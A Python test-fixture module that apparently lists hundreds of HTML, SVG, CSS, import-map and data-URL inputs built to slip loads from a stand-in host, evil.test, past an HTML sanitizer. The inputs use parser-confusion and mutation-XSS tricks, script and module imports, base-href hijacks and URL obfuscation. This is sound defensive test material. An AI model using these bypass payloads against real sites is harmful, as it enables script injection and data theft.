"""Inputs that others have got wrong, or that are meant to be got wrong. E stands for a third party."""

# ruff: noqa: RUF001

from __future__ import annotations

from base64 import b64encode

E = "//evil.test/x"

RAW_TEXT = f"""
<svg><style><img src={E}></style>
<svg><style>@import "{E}";</style></svg>
<svg><style>@imp<!-- -->ort "{E}";</style></svg>
<svg><style>@imp<g/>ort "{E}";</style></svg>
<svg><style><![CDATA[@import "{E}";]]></style></svg>
<svg><style>&#64;import "{E}";</style></svg>
<svg><style/><img src={E}>
<svg><style>a{{fill:ur<![CDATA[l({E})]]>}}</style></svg>
<svg></x><style>@imp<!-- -->ort "{E}";</style></svg>
<svg></x><style>@imp<g/>ort "{E}";</style></svg>
<svg></x><style>@imp<![CDATA[ort "{E}";]]></style></svg>
<svg></x><style>@imp<!-- -->ort &quot;{E}&quot;;</style></svg>
<math><textarea><img src={E}></textarea>
<math><mi><mglyph><style><img src={E}></style></math>
<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src={E}&gt;">
<math><mtext><table><mglyph><style><math><img src={E}></style></math>
<math><annotation-xml><style><img src={E}></style></math>
<math><annotation-xml encoding=text/html><style><a title="</style><img src={E}>"></style></math>
<math><annotation-xml><svg><title><style><a title="</style><img src={E}>">
<svg><title/><img src={E}></svg>
<svg><title/style=background:url({E})><style><a title="</style><img src={E}>">
<svg><title><style><a title="</style><img src={E}>"></style></title></svg>
<svg><desc><style><a title="</style><img src={E}>"></style></desc></svg>
<svg><foreignObject><style><a title="</style><img src={E}>"></style></foreignObject></svg>
<svg><p><style><a title="</style><img src={E}>"></style>
<svg></p><textarea><img src={E}>
<math></br><title><img src={E}></title>
<svg></p><style><a title="</style><img src={E}>"></style>
<svg><g></svg><style><a title="</style><img src={E}>"></style>
<div><svg></div><style><a title="</style><img src={E}>"></style>
<table><tr><td><svg></td><td><style><a title="</style><img src={E}>"></style>
<table><tr><td><svg><foreignObject><tr></tr></foreignObject><style><a title="</style><img src={E}>">
<table><tr><td><svg><desc></td><td><style><a title="</style><img src={E}>"></style>
<table><tr><td><svg><foreignObject><tr></tr></foreignObject><title><a x="</title><img src={E}>"></title>
<table><tr><td><svg></td><td><title><a x="</title><img src={E}>"></title>
<div><svg></div><math><mi><div></div></mi><title><a x="</title><img src={E}>">
<div><svg></div><math><mi><p></p><title><a x="</title><img src={E}>"></mi><title><a x="</title><img src={E}>">
<div><svg></div><math><mi><div></div></mi><title><img src={E}></title>
<div><svg></div><svg><desc></svg></svg><title><a x="</title><img src={E}>">
<svg><title/style=background:url({E})><title><a x="</title><img src={E}>">
<a><svg></a><title><img src={E}></title></svg>
<svg><font color=red><style><a title="</style><img src={E}>"></style>
<svg><font><style><a title="</style><img src={E}>"></style>
<svg><a><desc><b></a></desc><style><a title="</style><img src={E}>"></style>
<svg><desc><p></desc></svg><style><a title="</style><img src={E}>"></style>
<svg><g style="fill:url(#a)"><path d=x></g><desc></g><title><a x="</title><img src={E}>">
<svg><path style="fill:url(#a)"><circle></path><desc></path><title><a x="</title><img src={E}>">
<svg><g fill=url(#a)><g></g><desc></g><title><a x="</title><img src={E}>"></title></svg>
<svg><g></g></g><desc></g><style><a title="</style><img src={E}>"></style>
<path><svg><path/></path><title><a x="</title><img src={E}>">
<path><svg><path></path></path><desc></desc></svg><title><a x="</title><img src={E}>">
<svg><math><mi><style><a title="</style><img src={E}>"></style>
<div><svg></div><math><mi><div></div></mi><style><a title="</style><img src={E}>">
<svg><![CDATA[<a title="]]><img src={E}>">
<svg><desc><![CDATA[<a title="]]><img src={E}>">
<![CDATA[<a title="]]><img src={E}>">
<svg><script href={E}></script></svg>
<svg><script xlink:href={E} />
<svg><script>a("<img src={E}>")</script></svg>
<svg><noscript><img src={E}></noscript></svg>
<svg><iframe><img src={E}></iframe></svg>
<svg><xmp><img src={E}></xmp></svg>
<svg><plaintext><img src={E}>
<svg><template><img src={E}></template></svg>
<select><title><img src={E}></title></select><p>
<select><title><input><img src={E}></title>
<select><template></select></template><title><input><img src={E}></title>
<select><style></select><img src={E}></style>
<select><noembed><input><img src={E}></noembed>
<select><textarea><img src={E}></textarea>
<select><svg><style><input><img src={E}></style></svg></select>
<select><svg><style>@imp<!-- -->ort "{E}";</style></svg>
<select><svg><style>@imp<g/>ort "{E}";</style></svg>
<select><script>"<input><img src={E}>"</script></select>
<select><iframe><input><img src={E}></iframe>
<select></select><title><a x="</title><img src={E}>"></title>
<select><xmp><select><img src={E}></xmp>
<select><plaintext><input><img src={E}>
<frameset><noframes><img src={E}></noframes><frame src={E}></frameset>
<frameset><title><frame src={E}></title></frameset>
<frameset><script><frame src={E}></script></frameset>
<frameset><style><frame src={E}></style></frameset>
<frameset><template><frame src={E}></template></frameset>
<title><a x="</title><img src={E}>"></title>
<textarea><a x="</textarea><img src={E}>"></textarea>
<style><a x="</style><img src={E}>"></style>
<xmp><a x="</xmp><img src={E}>"></xmp>
<iframe><a x="</iframe><img src={E}>"></iframe>
<noembed><a x="</noembed><img src={E}>"></noembed>
<noframes><a x="</noframes><img src={E}>"></noframes>
<title></title/><img src={E}>
<title></titlex></title ><img src={E}>
<TITLE></tItLe x="><img src={E}>"><img src={E}>
<textarea></textarea x='>'><img src={E}>
<textarea style="background:url({E})"></textarea>
<textarea background={E}></textarea>
<xmp style="background:url({E})"></xmp>
<title style="display:block;background:url({E})">t</title>
<script style="display:block;background:url({E})">1</script>
<script type=text/plain style="background:url({E})">1</script>
<plaintext style="background:url({E})"><img src={E}>
<plaintext></plaintext><img src={E}>
<noscript style="background:url({E})"></noscript>
<style style="display:block;background:url({E})">a{{}}</style>
"""

NOSCRIPT = f"""
<noscript><img src={E}></noscript>
<noscript><!-- </noscript><img src={E}> --></noscript>
<noscript><p title="</noscript><img src={E}>"></noscript>
<noscript><style></noscript><img src={E}></style></noscript>
<noscript><textarea></noscript><img src={E}></textarea>
<noscript><iframe></noscript><img src={E}></iframe>
<noscript><img src={E}
<noscript><img src={E}>
<head><noscript><link rel=stylesheet href={E}></noscript></head>
<head><noscript><style>@import "{E}";</style></noscript></head>
<head><noscript><base href=//evil.test/></noscript></head><body><img src=x>
<noscript><noscript><img src={E}></noscript></noscript>
<noscript></template><img src={E}></noscript>
<template><noscript></template><img src={E}></noscript>
<noscript><template></noscript><img src={E}></template></noscript>
<noscript><svg><style></noscript><img src={E}></style></noscript>
<noscript><select><title></noscript><input><img src={E}></title></noscript>
<noscript><<img src={E}>/noscript><img src={E}>
<noscript><iframe srcdoc="<img src={E}>"></iframe></noscript>
<noscript><plaintext></noscript><img src={E}>
<noscript><table background={E}></table></noscript>
<noscript><frameset><frame src={E}></frameset></noscript>
<svg><foreignObject><noscript></foreignObject></noscript><style><a title="</style><img src={E}>">
<svg><desc><noscript></desc><style><img src={E}></style></noscript>
"""

SCRIPTS = f"""
<script src={E}></script>
<SCRIPT SRC={E}></SCRIPT>
<script/src={E}></script>
<script
src
=
"{E}"
></script >
<script src={E}>
<script a=">" src={E}></script>
<script =">" src={E}></script>
<script a='>' src='{E}'></script>
<script a=`>` src={E}></script>
<script "a='>'" src={E}></script>
<script src={E} type=module></script>
<script type=" text/JavaScript " src={E}></script>
<script language=javascript src={E}></script>
<script type="" src={E}></script>
<script><!--<script></script><img src={E}>--></script>
<script><!--<script></script></script><img src={E}>
<script><!--</script><img src={E}>
<script><!--<script --></script><img src={E}>
<script><!--><script></script><img src={E}>
<script><!---><script></script><img src={E}>
<script><!--<script/></script ></script ><img src={E}>
<script><!--<scriptx></script><img src={E}>
<script><!-- <script> --> </script><img src={E}>
<script><!--<script></scripty></script></script><img src={E}>
<script type=x><!--<script></script> <img src={E}> --></script><p>
<script type=x><!--<script></script></script><img src={E}>
<script>"</script"></script><img src={E}>
<script></script a="><img src={E}>"><img src={E}>
<script>/*</script><img src={E}>*/</script>
<<script src={E}></script>
<<img src={E}>script src={E}></script>
<<img src={E}><img src={E}>script src={E}></script>
<<![CDATA[script src={E}>
<svg></g><<![CDATA[script src={E}>
<svg></g><<![CDATA[img src={E}>
<svg></g><<title></title>img src={E}>
<select><<title><b></title>img src={E}>
<scr<script>ipt src={E}></script>
<scr<img src={E}>ipt src={E}></script>
</<img src={E}>script src={E}></script>
<!<img src={E}>script src={E}></script>
<?<img src={E}>script src={E}></script>
<script src=/own.js></script><script src={E}></script>
<script src={E} src=/own.js></script>
<script src=/own.js src={E}></script>
<script type=text/plain>"</script><script src={E}></script>
<script nomodule async defer src={E}></script>
"""

MODULES = f"""
<script type=module>import "{E}"</script>
<SCRIPT TYPE=" Module ">import "{E}"</SCRIPT>
<script type=module>import a,{{b as c}}from'{E}'</script><script type=module>export*from"{E}"</script>
<script type=module>import/*"*/a/**/from//'
"{E}"</script>
<script type=module>import j from "{E}" with {{type: "json"}}</script>
<script type=module>import "\x2f\u002fevil.test/x"</script>
<script type=module>var a
/'/;import"{E}";'</script>
<script type=module>`${{`'`}}`;import "{E}";'`'</script>
<script type=module>if(a)/'/.test(b);import "{E}";'</script>
<script>import("{E}")</script><script type=module>x(() => import( /**/ '{E}' ))</script>
<script type=module>[...import("{E}")]</script>
<svg><script type=module>import "{E}"</script></svg>
<svg><script type=module>import &#34;{E}"</script></svg>
<svg><script type=module>imp<!---->ort "{E}"</script></svg>
<svg></g><script type=module>imp<!---->ort "{E}"</script></svg>
<svg></g><script type=module>imp<g/>ort "{E}"</script></svg>
<svg></g><style>@imp<!---->ort "{E}";</style></svg>
<script type=speculationrules>{{"prefetch": [{{"urls": ["/a", "{E}"]}}]}}</script>
<script type=speculationrules>{{"prerender": [{{"source": "list", "urls": ["{E}"]}}]}}</script>
<base href=//evil.test/><script type=module>import "./x.js"</script>
"""

# An import map, what stands after it, and what the module on the page imports.
_MAPS = [
    (f'{{"imports": {{"a": "{E}"}}}}', "", "a"),
    ('{"imports": {"a/": "//evil.test/"}}', "", "a/b.js"),
    ('{"imports": {"a": "/a", "a/b/": "//evil.test/"}}', "", "a/b/c.js"),
    (f'{{"imports": {{"/a.js": "{E}"}}}}', "", "../a.js"),
    (f'{{"imports": {{"https://www.example.org/a.js": "{E}"}}}}', "", "/a.js"),
    (f'{{"scopes": {{"/dir/": {{"a": "{E}"}}}}}}', "", "a"),
    (f'{{"imports": {{"{E}": "/a"}}, "scopes": 1}}', "", E),
    (f'{{"imports": {{"{E}": "/a",}}}}', "", E),
    (f'{{"imports": {{"https:{E}": "/a"}}, "scopes": {{"dir/": {{"https:{E}": "/a"}}}}}}', "", f"https:{E}?"),
    ("{}", f'<script type=importmap>{{"imports": {{"a": "{E}"}}}}</script>', "a"),
    ('{"imports": {"a": "/a"}}', "<base href=//evil.test/>", "./a"),
]
_ELSEWHERE = (
    "<noscript>{}</noscript>",
    "<template>{}</template>",
    "<!--{}-->",
    "<svg><title>{}</title></svg>",
)


def _page(map: str, after: str, specifier: str) -> str:
    module = f"<script type=module>import '{specifier}'</script>"
    return f"<script type=importmap>{map}</script>{after}{module}"


IMPORT_MAPS = [
    *(_page(*one) for one in _MAPS),
    *(
        place.format(f'<script type=importmap>{{"imports": {{"{E}": "/a"}}}}</script>')
        + f"<script type=module>import '{E}'</script>"
        for place in _ELSEWHERE
    ),
    f'<script type=importmap src=/m>{{"imports": {{"{E}": "/a"}}}}</script>'
    f'<script type=module>import "{E}"</script>',
]

COMMENTS = f"""
<!--><img src={E}>-->
<!---><img src={E}>-->
<!----><img src={E}>
<!-- --!><img src={E}> -->
<!-- --! ><img src={E}> --><img src={E}>
<!-- --- > --><img src={E}>
<!--<!--><img src={E}>
<!--<!-- --><img src={E}>
<!-- <!-- --!><img src={E}>
<!-----><img src={E}>
<!---!><img src={E}>--><img src={E}>
<!--!><img src={E}>--><img src={E}>
<!- --><img src={E}>
<!><img src={E}>
<!x "><img src={E}>">
<!doctype html "><img src={E}>">
<!DOCTYPE html PUBLIC "><img src={E}>" "">
<?php echo "?><img src={E}>"?>
</ ><img src={E}>
</><img src={E}>
</ x="><img src={E}>">
</p x="><img src={E}>"><img src={E}>
</p x='a>b'><img src={E}>
<!--[if IE]><img src={E}><![endif]--><img src={E}>
<![if !IE]><img src={E}><![endif]>
<!--[if !IE]><!--><img src={E}><!--<![endif]-->
<3 <img src={E}>
a < b <img src={E}>
<%<img src={E}>%>
<!--
"""

ELEMENTS = f"""
<img src={E}>
<IMG SRC='{E}'>
<img/src="{E}"/>
<img src="{E}
<img
src={E}
<img src={E} src=/own.png>
<img SRC=/own.png src={E} srcset={E}>
<image src={E}><image data-src={E} lowsrc={E}><image data-srcset="{E} 2x">
<img srcset="/a 1x, {E} 2x">
<img srcset="data:,a ( , {E} 1x), {E} 2x">
<img srcset=",{E},/b 2x">
<img srcset="{E},, /a 1x">
<img srcset=/a srcset={E}>
<img srcset={E} srcset={E} alt=x>
<img alt=1 srcset={E}=x>
<img src srcset={E} ={E}>
<img src srcset={E} = {E}>
<img src srcset={E} style=background:url({E}) ={E}>
<img src=/a/srcset={E}>
<img src="/a"srcset="{E}"alt="x">
<picture><source srcset={E}><source srcset="/a, {E} 2x"><img src=/a></picture>
<video src={E}></video><video poster={E}><source src={E}><track src={E}></video>
<audio src={E}></audio><bgsound src={E}>
<iframe src={E}></iframe><iframe src={E}>
<iframe src={E}/><img src={E}>
<iframe srcdoc="<img src={E}>"></iframe>
<iframe srcdoc="&lt;img src={E}&gt;"></iframe>
<iframe srcdoc="<iframe srcdoc='&amp;lt;img src={E}&amp;gt;'>"></iframe>
<iframe srcdoc="<base href=//evil.test/><img src=x>"></iframe>
<iframe srcdoc=<img/src={E}>></iframe>
<iframe srcdoc="<script src={E}></script>" src={E} style="background:url({E})"></iframe>
<iframe src="data:text/html,<img src=https:{E}>"></iframe>
<iframe src="data:text/html;base64,PGltZyBzcmM9aHR0cHM6Ly9ldmlsLnRlc3QveD4="></iframe>
<object data="data:text/html,<script src=https:{E}></script>"></object>
<frameset><frame src={E}><frame src=/own></frameset>
<object data={E}>x</object><object data={E}>
<object classid={E}></object>
<embed src={E}><embed type=x src={E}>
<applet code=x archive={E}></applet>
<input type=image src={E}><input TYPE=IMAGE SRC={E}>
<input type="image" src="{E}" src="/x">
<body background={E}><table background={E}><tr background={E}><td background={E}></table>
<table><img src={E}><tr><img src={E}><td><script src={E}></script></table>
<link rel=stylesheet href={E}><link rel="alternate stylesheet" href={E}>
<link rel=preload as=image imagesrcset="/a 1x, {E} 2x" href=/a>
<link rel=preconnect href={E}><link rel=dns-prefetch href={E}><link rel=prefetch href={E}>
<link rel=modulepreload href={E}><link rel=manifest href={E}><link rel="shortcut icon" href={E}>
<link rel="&#115;tylesheet" href={E}><link REL=icon HREF={E}><link rel="next	prefetch" href={E}>
<meta http-equiv=refresh content="0;url={E}">
<meta http-equiv=Refresh content=" 0 , URL = '{E}' ">
<meta http-equiv="refresh" content="1;{E}"><meta http-equiv="refresh" content="1 {E}">
<meta content=";url={E}" http-equiv=refresh><meta content=".5;url={E}" http-equiv=refresh>
<a ping="/own {E}" href=/>x</a><area ping={E}>
<svg><image href={E} /><image xlink:href={E} /><use href={E}#a /><use xlink:href={E}#a /></svg>
<svg><feImage href={E} /></svg>
<svg><rect fill="url({E}#a)" filter="url({E}#b)" /><path style="mask:url({E})" /></svg>
<svg><image><set attributeName=href to={E} /></image></svg>
<svg><image><animate attributeName=xlink:href values="/a;{E}" /></image></svg>
<svg><use href={E}#a /><mpath href={E} /><textPath xlink:href={E} /><tref xlink:href={E} /></svg>
<svg><filter href={E} /><pattern xlink:href={E} /><linearGradient href={E} /><radialGradient href={E} /></svg>
<svg><g stroke="url({E})" marker-start="url({E})"><set attributeName=fill to="url({E})" /></g></svg>
<svg><a><foreignObject><img src={E}></foreignObject><image href={E} /></a></svg>
<svg><table><tr><td><img src={E}></table><image href={E} />
<table><svg><table><tr background={E}></table></svg><td background={E}></table>
<dialog open><img src={E}></dialog><search><img src={E}></search><details><summary background={E}></details>
<select><option>a<hr><img src={E}><optgroup><option><button><img src={E}></button></select><img src={E}>
<select><button><selectedcontent><img src={E}></selectedcontent></button><option><img src={E}></select>
<frameset><frameset><frame src={E}></frameset><noframes><frame src={E}></noframes></frameset>
<div><template shadowrootmode=open><template shadowrootmode=closed><img src={E}></template></template></div>
<template><div><template shadowrootmode=open><img src={E}></template></div></template><img src={E}>
<math><annotation-xml encoding="application/xhtml+xml"><img src={E}></annotation-xml></math>
<math><annotation-xml encoding=text/html><svg><image href={E} /></svg></annotation-xml><mi><img src={E}>
<object classid={E} codebase={E} archive="/a {E}"></object><applet object={E} codebase={E}></applet>
<embed code={E}><portal src={E}></portal><fencedframe src={E}></fencedframe><img dynsrc={E} lowsrc={E}>
<a attributionsrc="/own {E}" href=/>x</a><img attributionsrc={E} src=/own><script attributionsrc={E}></script>
<link rel=stylesheet href="data:text/css,@import 'https:{E}'">
<link rel=stylesheet href="data:text/css,@import 'data:text/css,a%7Bb:url(https:{E})%7D'">
<style>@import "data:text/css,@import 'data:text/css,@import %22https:{E}%22'";</style>
<style>@import "data:text/css;base64,QGltcG9ydCAiaHR0cHM6Ly9ldmlsLnRlc3QveCI7";</style>
<svg><path style="fill:url({E})"></path><circle cursor="url({E}),auto"></circle></svg>
<div style="background:url({E})">
<div style='background:url("{E}")'>
<div style="background:url(&quot;{E}&quot;)">
<div style=background:url({E})>
<div style="background:URL( {E} )">
<div style="background:\\75\\72\\6c({E})">
<div style="background:u\\72 l({E})">
<div style="background:url(\\2f\\2f evil.test/x)">
<div style="background:url(/own {E});background:url({E})">
<div style="background:url({E} {E})">
<div style="background:url({E} '{E}')">
<div style="background:image-set('{E}' 1x)">
<div style="background:-webkit-image-set(url({E}) 1x)">
<div style="background:/*url(/**/url({E})">
<div style="content:'\\'';background:url({E})">
<div style="content:'
;background:url({E})">
<div style="--u:'{E}';background:image-set(var(--u) 1x)">
<div style="background:url('{E}" id=x>
<div style="background:image-set(var(--no, '{E}') 1x)">
<style>a{{background:image-set(var(--no, "{E}") 1x)}}</style><a>
<style>@property --x{{syntax:"*";inherits:false;initial-value:"{E}"}}a{{content:image-set(var(--x))}}</style>
<style>@function --f(){{result:"{E}"}}a{{background:image-set(--f() 1x)}}</style><a>
<style>a{{--x/**/:"{E}";background:image-set(var(--x) 1x)}}</style><a>
<style>a{{-\\2d x:"{E}";background:image-set(var(--x) 1x)}}</style><a>
<style>@import "{E}";</style><style>@import url({E});</style><style>@import url("{E}") screen;</style>
<style>@IMPORT/**/'{E}'</style><style>@\\69mport "{E}";</style><style>@import"{E}"</style>
<style>@im@import "{E}";port "{E}";</style>
<style></st@import "{E}";yle><img src={E}></style>
<style></st@import "{E}";yle
><img src={E}></style>
<style>a{{background:url({E})}}</style><style>@font-face{{src:url({E})}}</style>
<style>a{{background:url(
{E}
)}}</style>
<style><!-- @import "{E}"; --></style>
<style>a{{background:url({E}</style>
<style>a{{background:"</style><img src={E}>"}}</style>
<style>@import url({E}
<style type=text/css>@charset "utf-8";@import '{E}';</style>
<template><img src={E}></template><img src={E}>
<template><template></template><img src={E}></template><img src={E}>
<template></template></template><img src={E}>
<template><svg></template><title><img src={E}></title><img src={E}>
<template><div></template></div><img src={E}>
<template><script></template><img src={E}></script></template>
<template><!--</template><img src={E}>--></template><img src={E}>
<div><template shadowrootmode=open><img src={E}></template></div>
<div><template shadowrootmode="CLOSED"><style>@import "{E}";</style></template></div>
<div><template ShadowRootMode=&#111;pen><img src={E}></template></div>
<svg><template></svg><img src={E}></template>
<table><template><tr><img src={E}></template><img src={E}></table>
<html manifest={E}><body>
<div @click="a > b" style="background:url({E})">
<img a="<img src={E}>" src={E}>
<img title=`>` src={E}>
<img title='"><img src={E}>'><img src={E}>
<img ""\"><img src={E}>">
<img onerror="alert('>')" src={E}>
<img src= "{E}" / >
<img src={E}\tonerror=1 />
<p/style="background:url({E})"><p style = "background:url({E})">
<img\x0csrc={E}>
<img\x00src={E}><img src={E}>
<img src="\x00{E}"><img src={E}>
"""

URLS = """
<img src="https://evil.test/x">
<img src="HTTPS://EVIL.TEST/x">
<img src="  //evil.test/x">
<img src="&#9;//evil.test/x">
<img src="\x01//evil.test/x">
<img src="/\t/evil.test/x">
<img src="/&#10;/evil.test/x">
<img src="/&Tab;/evil.test/x">
<img src="ht&#10;tps://evil.test/x">
<img src="\\\\evil.test\\x">
<img src="/\\evil.test/x">
<img src="\\/evil.test/x">
<img src="&sol;&sol;evil.test/x">
<img src="&#x2f;&#47evil.test/x">
<img src="&#x2F&#x2Fevil.test/x">
<img src="///evil.test/x">
<img src="https:///evil.test/x">
<img src="https:\\\\evil.test/x">
<img src="http:evil.test/x">
<img src="http:/evil.test/x">
<img src="https://www.example.org@evil.test/x">
<img src="https://www.example.org:pw@evil.test/x">
<img src="https://www.example.org\\@evil.test/x">
<img src="https://evil.test\\@www.example.org/x">
<img src="https://evil.test#@www.example.org/x">
<img src="https://evil.test?@www.example.org/x">
<img src="https://a@b@evil.test/x">
<img src="https://ev%69l.test/x">
<img src="https://evil%2etest/x">
<img src="https://ｅｖｉｌ.test/x">
<img src="https://evil。test/x">
<img src="https://evil.test./x">
<img src="https://e&shy;vil.test/x">
<img src="https://bücher.test/x">
<img src="https://xn--bcher-kva.test/x">
<img src="https://www.example.org.evil.test/x">
<img src="https://notexample.org/x">
<img src="https://example.org.test/x">
<img src="https://2130706433/x">
<img src="https://0x7f.1/x">
<img src="https://0177.0.0.1/x">
<img src="https://[::1]/x">
<img src="https://[::ffff:1.2.3.4]:8443/x">
<img src="https://evil.test:443/x">
<img src="//evil.test:/x">
<img src="wss://evil.test/x">
<img src="ftp://evil.test/x">
<img src="https://evil&period;test/x">
<img src="https://google&#45;analytics.com/x">
<base href=//evil.test/><img src=x><script src=/y></script>
<base href=//evil.test/><base href=/><img src=x>
<base><base target=x><base href=//evil.test/><img src=x>
<base href="data:,"><img src=/x><img src=//evil.test/x>
<base href=//evil.test/ href=/><img src=x>
<base href=https://evil.test/><img src="https:www.example.org/x">
<base href=https://evil.test/><img src="https:/www.example.org/x">
<base href=https://evil.test/><img src="?x"><img src=""><img src="#">
<img src=x><base href=//evil.test/><img src=x>
<link rel=stylesheet href=x><base href=//evil.test/><base href=//evil.test/>
<svg><base href=//evil.test/></svg><img src=x>
<svg><base href=/><desc><base href=//evil.test/></desc></svg><img src=x>
<template><base href=/></template><base href=//evil.test/><img src=x>
<select><base href=/></select><base href=//evil.test/><img src=x>
<div><svg></div><base href=/></svg><base href=//evil.test/><img src=x>
<noscript><base href=/></noscript><base href=//evil.test/><img src=x>
<title><base href=/></title><base href=//evil.test/><img src=x>
<img srcset=x><base href=//evil.test/>
<noscript><img srcset=x></noscript><base href=//evil.test/>
<iframe srcdoc="<img srcset=x>"></iframe><base href=//evil.test/>
<div style="background:url(x)"></div><base href=//evil.test/><base href=/>
<base href=//www.example.org/><img src=x><base href=//evil.test/><img src=x>
<style>@import "x";</style><base href=//evil.test/><img src=x>
<base href="https://["><base href=//evil.test/><img src=x>
<base href="javascript:1"><base href=//evil.test/><img src=x>
<script type=module>import "./x.js"</script><base href=//evil.test/><img src=x>
<script type=module>import "x"</script><noscript><base href=//evil.test/></noscript><img src=x>
<script type=speculationrules>{"prefetch": [{"urls": ["x"]}]}</script><base href=//evil.test/><img src=x>
<base href=//evil.test/><svg><image><set attributeName=href to="" from=";"/><set attributeName=href/></svg>
<head><noscript><link rel=stylesheet href=/s.css></noscript><base href=//evil.test/></head>
<base href=//evil.test/ style="display:block;background:url(x)">
<svg><use ="//example.org/></svg><script/src=//evil.test/x></script><b>"></use></svg>
<svg><use ='//example.org/></svg><img src=//evil.test/x><b>'></use></svg>
<img ="//example.org/><script/src=//evil.test/x></script><b>">
<object archive="https://www.example.org/a //evil.test/x"></object>
<math></br><svg><style></style></svg><iframe src=/x></iframe><iframe><img src=//evil.test/x></iframe>
<table><script type=module>import 'm'</script><b
><script type=importmap>{"imports": {"m": "//evil.test/x"}}</script>
<base href=http://evil.test/a/><img src=..//x><img src=https://www.example.org/x>
"""


def _utf_16(text: str) -> str:
    return b64encode(text.encode("utf-16-le")).decode()


MARK = "\N{ZERO WIDTH NO-BREAK SPACE}"
IMG = f"<img src=https:{E}>"
SHEET = f"@import 'https:{E}'"
CODE = f"import('https:{E}')"
SVG = "http://www.w3.org/2000/svg"
XHTML = "http://www.w3.org/1999/xhtml"
DATA_URLS = f"""
<iframe src="data:text/html;charset=utf-16le;base64,{_utf_16(IMG)}"></iframe>
<iframe src="data:text/html;base64,{_utf_16(MARK + IMG)}"></iframe>
<link rel=stylesheet href="data:text/css;charset=utf-16le;base64,{_utf_16(SHEET)}">
<style>@import url(data:text/css;charset=utf-16le;base64,{_utf_16(SHEET)})</style>
<script src="data:text/javascript;charset=utf-16le;base64,{_utf_16(CODE)}"></script>
<script src="data:,import('https:{E}')"></script><script src="data:text/html,import('https:{E}')"></script>
<link rel=stylesheet href="data:,@import 'https:{E}'"><style>@import "data:,@import 'https:{E}'";</style>
<object data="data:image/svg+xml,<s:svg xmlns:s='{SVG}'><s:image href='https:{E}'/></s:svg>"></object>
<iframe src="data:text/xml,<h:img xmlns:h='{XHTML}' src='https:{E}'/>"></iframe>
<iframe src="data:text/xml,<h xmlns='{XHTML}'><textarea><img src='https:{E}'/></textarea></h>"></iframe>
<embed src="data:text/xml,<!DOCTYPE x [<!ENTITY a 'https:{E}'>]><img xmlns='{XHTML}' src='&amp;a;'/>">
"""


def split(block: str) -> list[str]:
    """The inputs of a block, one a line; a line that does not begin with "<" or a word belongs to the one
    before."""
    inputs: list[str] = []
    for line in block.strip("\n").split("\n"):
        if inputs and line[:1] in ("", "=", '"', ">", ")", ";", "/", "s"):
            inputs[-1] += "\n" + line
        else:
            inputs.append(line)
    return inputs


BLOCKS = (RAW_TEXT, NOSCRIPT, SCRIPTS, MODULES, COMMENTS, ELEMENTS, URLS, DATA_URLS)
INPUTS = [*IMPORT_MAPS, *(one for block in BLOCKS for one in split(block))]
